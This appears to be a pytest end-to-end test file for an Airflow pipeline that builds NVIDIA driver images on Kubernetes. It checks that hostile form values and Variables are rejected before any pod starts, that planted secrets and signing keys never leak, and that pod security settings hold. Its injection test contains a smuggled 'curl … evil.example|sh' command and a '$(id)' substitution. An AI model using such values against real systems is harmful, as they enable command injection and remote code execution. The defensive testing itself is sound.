"""The real DAG refuses hostile inputs before any pod starts, and never leaks a planted secret.

Covered elsewhere, not repeated: each step's pod security context and mounts as built
(``tests/precompiled_drivers/steps/``), RBAC (``tests/deploy/``), the big table of hostile values
(``tests/precompiled_drivers/test_hostile_inputs.py``). Here the same properties are checked on what the
API server actually received during real runs.
"""

from __future__ import annotations

import base64
import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from harness.dag_runner import task_states, xcom
from harness.pipeline_world import NAMESPACE, SECRET_VALUES, World
from precompiled_drivers.procedure import TASK_IDS
from testcluster import Scenario

pytestmark = pytest.mark.e2e


class PodRecorder:
    """Every Pod body the test server stored, as created (a store listener: nothing is missed, even pods
    deleted right after they succeed)."""

    def __init__(self, world: World) -> None:
        self.created: list[dict[str, Any]] = []
        world.cluster.store.add_listener(self._on_change)

    def _on_change(self, etype: str, res: Any, obj: dict[str, Any], old: Any) -> None:
        if etype == "ADDED" and res.kind == "Pod" and obj["metadata"].get("namespace") == NAMESPACE:
            self.created.append(obj)


@pytest.fixture
def pods(world: World, monkeypatch: pytest.MonkeyPatch) -> PodRecorder:
    monkeypatch.setenv("PRECOMPILED_DRIVERS_RETRY_DELAY_SECONDS", "1")
    return PodRecorder(world)


def needles() -> dict[str, str]:
    """Each planted secret, plus the encodings it could leak in (base64, and decoded registry auths)."""
    found: dict[str, str] = {}
    for name, value in SECRET_VALUES.items():
        found[name] = value
        found[f"{name} (base64)"] = base64.b64encode(value.encode()).decode()
        if name.endswith("_auth"):
            found[f"{name} (decoded)"] = base64.b64decode(value).decode()
    return found


def leaks(texts: dict[str, str]) -> list[str]:
    return [
        f"{needle} in {where}"
        for where, text in texts.items()
        for needle, v in needles().items()
        if v in text
    ]


def xcom_rows(dag_run: Any) -> dict[str, str]:
    """Every XCom row of a run (any key), as stored JSON text."""
    from airflow.models.xcom import XComModel
    from airflow.utils.session import create_session

    with create_session() as session:
        rows = session.query(XComModel).filter_by(dag_id=dag_run.dag_id, run_id=dag_run.run_id).all()
        return {f"xcom {r.task_id}[{r.map_index}].{r.key}": json.dumps(r.value, default=str) for r in rows}


def log_files() -> dict[str, str]:
    """Task log files, if the logging setup wrote any (dag.test() logs to stdout, captured separately)."""
    base = Path(os.environ["AIRFLOW_HOME"]) / "logs"
    return {str(p): p.read_text(errors="replace") for p in base.rglob("*") if p.is_file()}


def pod_texts(recorder: PodRecorder) -> dict[str, str]:
    """The rendered command, args and every env value of each pod (and the whole body, to be thorough)."""
    texts = {}
    for pod in recorder.created:
        name = pod["metadata"]["name"]
        for c in pod["spec"].get("containers", []) + pod["spec"].get("initContainers", []):
            rendered = list(c.get("command") or []) + list(c.get("args") or [])
            rendered += [e.get("value", "") for e in c.get("env") or []]
            texts[f"pod {name} container {c['name']} command/args/env"] = "\n".join(rendered)
        texts[f"pod {name} body"] = json.dumps(pod)
    return texts


def assert_pod_security(recorder: PodRecorder) -> None:
    """Every step pod the server received (the GPU check's pods too): non-root, read-only root, no
    capabilities, no privilege escalation; the build step alone differs, on its own ServiceAccount and SCC."""
    assert recorder.created
    for pod in recorder.created:
        step = pod["metadata"]["labels"]["precompiled-drivers/step"]
        sa = pod["spec"]["serviceAccountName"]
        base = pod["spec"]["containers"][0]
        ctx = base["securityContext"]
        assert ctx["runAsNonRoot"] is True, (step, ctx)
        assert "privileged" not in ctx or ctx["privileged"] is False, (step, ctx)
        if step == "build_driver_image":
            assert sa == "precompiled-drivers-build"
            assert pod["metadata"]["annotations"]["openshift.io/required-scc"] == "precompiled-drivers-build"
            assert ctx["capabilities"] == {"drop": ["ALL"], "add": ["SETUID", "SETGID", "SETFCAP"]}
        else:
            assert sa != "precompiled-drivers-build", step
            assert "openshift.io/required-scc" not in (pod["metadata"].get("annotations") or {}), step
            assert ctx["readOnlyRootFilesystem"] is True, (step, ctx)
            assert ctx["allowPrivilegeEscalation"] is False, (step, ctx)
            assert ctx["capabilities"] == {"drop": ["ALL"]}, (step, ctx)
        for sidecar in pod["spec"]["containers"][1:]:
            sctx = sidecar.get("securityContext") or {}
            assert sctx.get("runAsNonRoot") is True and sctx.get("readOnlyRootFilesystem") is True, sctx


def test_hostile_form_value_and_variable_start_no_pod(
    world: World,
    run_dag: Callable[..., Any],
    pods: PodRecorder,
    capfd: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A shell-injection attempt in the form is refused by the form's schema (Airflow's Param check) before
    a run exists; a value the schema cannot refuse (a rule across fields) and a hostile discovery
    Variable each fail the run at validate_inputs naming the field. The API server never receives a
    single pod."""
    from airflow.sdk.exceptions import ParamValidationError

    hostile = "quay.io/acme/nvidia;curl -s evil.example|sh"
    with pytest.raises(ParamValidationError, match="Invalid input for param repository"):
        run_dag(repository=hostile)
    assert pods.created == []

    dag_run = run_dag(driver_versions=["570.158.01"], rollout_driver_version="580.65.06")
    states = task_states(dag_run)
    assert dag_run.state == "failed"
    assert states["validate_inputs"] == "failed"
    assert {s for t, s in states.items() if t not in ("validate_inputs", "report", "needs_rollback")} <= {
        "upstream_failed",
        "skipped",
    }, states
    out = capfd.readouterr().out
    assert "input rejected, no pod was started: rollout_driver_version: got '580.65.06'" in out
    assert pods.created == [], [p["metadata"]["name"] for p in pods.created]

    monkeypatch.setenv("AIRFLOW_VAR_PRECOMPILED_DRIVERS_LOOKAHEAD_LIMIT", "3\n$(id)")
    dag_run = run_dag()
    assert dag_run.state == "failed"
    assert task_states(dag_run)["validate_inputs"] == "failed"
    out = capfd.readouterr().out
    assert "input rejected, no pod was started: Variable precompiled_drivers_lookahead_limit" in out
    assert pods.created == []


def test_planted_secrets_appear_in_no_log_xcom_pod_or_report(
    world: World, run_dag: Callable[..., Any], pods: PodRecorder, capfd: pytest.CaptureFixture[str]
) -> None:
    """A successful run and a failing one (the build fails for good); then every task log, every XCom row,
    the report and every pod the API server received are searched for each planted secret."""
    ok = run_dag(driver_versions=["570.158.01"])
    assert ok.state == "success", task_states(ok)
    world.cluster.scenarios.set(
        "build_driver_image", Scenario(exit_code=1, logs=["rhsm-register: invalid activation key"])
    )
    failed = run_dag(driver_versions=["570.158.01"], force_rebuild=True)
    assert failed.state == "failed", task_states(failed)

    out, err = capfd.readouterr()
    texts = {"task logs (stdout)": out, "task logs (stderr)": err, **log_files()}
    for dag_run in (ok, failed):
        texts.update({f"{dag_run.run_id} {k}": v for k, v in xcom_rows(dag_run).items()})
    report = xcom(ok, "report")
    assert "built+pushed" in report
    texts["report"] = report
    texts.update(pod_texts(pods))

    # The searches are not vacuous: the logs hold every step's output, the pods mount the secrets.
    assert all(f"task_id={step}" in out or step in out for step in TASK_IDS)
    assert "rhsm-register: invalid activation key" in out and "pushed " in out
    # The GPU check's pods (check_gpu_workload) mount nothing; they are held to the same security below.
    mounted = {
        v.get("secret", {}).get("secretName") for p in pods.created for v in p["spec"].get("volumes") or []
    }
    assert {
        "precompiled-drivers-rhsm",
        "precompiled-drivers-pull-secret",
        "precompiled-drivers-push-secret",
    } <= (mounted)
    assert len(pods.created) >= 10
    assert leaks({"probe": f"x{SECRET_VALUES['rhsm_key']}x"}), "the search finds a planted value"
    assert leaks(texts) == []
    assert_pod_security(pods)


def test_signing_keys_appear_in_no_log_xcom_pod_or_report(
    world: World,
    run_dag: Callable[..., Any],
    pods: PodRecorder,
    capfd: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Secure Boot key pair and sigstore key in place, signing required and image signing on: the private
    keys and the passphrase (as stored, base64, and the key's PEM body lines) are in no task log, XCom row,
    report or pod the API server received; only their mounts are. The public key's fingerprint is shown."""
    from harness.signing_keys import module_keys, sigstore_keys

    module = module_keys()
    image = sigstore_keys(password=b"planted-cosign-passphrase-77")
    world.add_secret_files("precompiled-drivers-module-signing", module.secret_data())
    world.add_secret_files("precompiled-drivers-image-signing", image.secret_data())
    monkeypatch.setenv("PRECOMPILED_DRIVERS_REQUIRE_MODULE_SIGNING", "true")
    monkeypatch.setenv("PRECOMPILED_DRIVERS_SIGN_IMAGES", "true")

    dag_run = run_dag(driver_versions=["570.158.01"])
    out, err = capfd.readouterr()
    texts = {"task logs (stdout)": out, "task logs (stderr)": err, **log_files(), **xcom_rows(dag_run)}
    report = xcom(dag_run, "report")
    texts["report"] = report
    texts.update(pod_texts(pods))

    secrets = {
        "private_key.priv": module.private_key,
        "cosign.key": image.private_key,
        "cosign.password": image.password,
    }
    planted: dict[str, str] = {}
    for name, data in secrets.items():
        planted[name] = data.decode()
        planted[f"{name} (base64)"] = base64.b64encode(data).decode()
        # A PEM body line is enough to recognise a key that leaked re-wrapped or in part.
        body = [line for line in data.decode().splitlines() if line and not line.startswith("-----")]
        planted.update({f"{name} line {i}": line for i, line in enumerate(body[:3])})
    found = [
        f"{needle} in {where}" for where, text in texts.items() for needle, v in planted.items() if v in text
    ]
    assert found == []
    # Not vacuous: the keys were used (fingerprints reported), mounted (volumes), and the steps logged.
    assert module.fingerprint in report and image.fingerprint in out
    mounted = {v.get("secret", {}).get("secretName") for p in pods.created for v in p["spec"]["volumes"]}
    assert {"precompiled-drivers-module-signing", "precompiled-drivers-image-signing"} <= mounted
    assert "Signing the kernel modules" in out or "module signing key" in out
    assert any(planted["cosign.key line 0"] in t for t in [image.private_key.decode()])
    assert_pod_security(pods)
